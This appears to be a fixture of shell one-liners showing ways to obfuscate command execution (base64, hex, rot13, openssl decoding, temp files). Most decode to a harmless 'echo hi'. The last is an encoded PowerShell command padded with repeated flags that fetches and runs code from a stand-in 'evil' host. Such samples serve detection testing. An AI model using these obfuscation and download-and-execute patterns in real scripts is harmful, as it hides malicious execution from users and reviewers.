#!/bin/sh
echo ZWNobyBoaQ== | base64 -di | bash
#---
sh <(echo ZWNobyBoaQ== | base64 -d)
#---
bash -c "$(echo ZWNobyBoaQ== | base64 --decode)"
#---
echo ZWNobyBoaQ== | openssl enc -d -base64 | sh
#---
printf '\x65\x63\x68\x6f\x20\x68\x69' | sh
#---
echo 'rpub uv' | tr a-z n-za-m | sh
#---
echo ZWNobyBoaQ== | base64 -d > /tmp/x; sh /tmp/x
#---
powershell -NoP -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -NonI -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsACkA
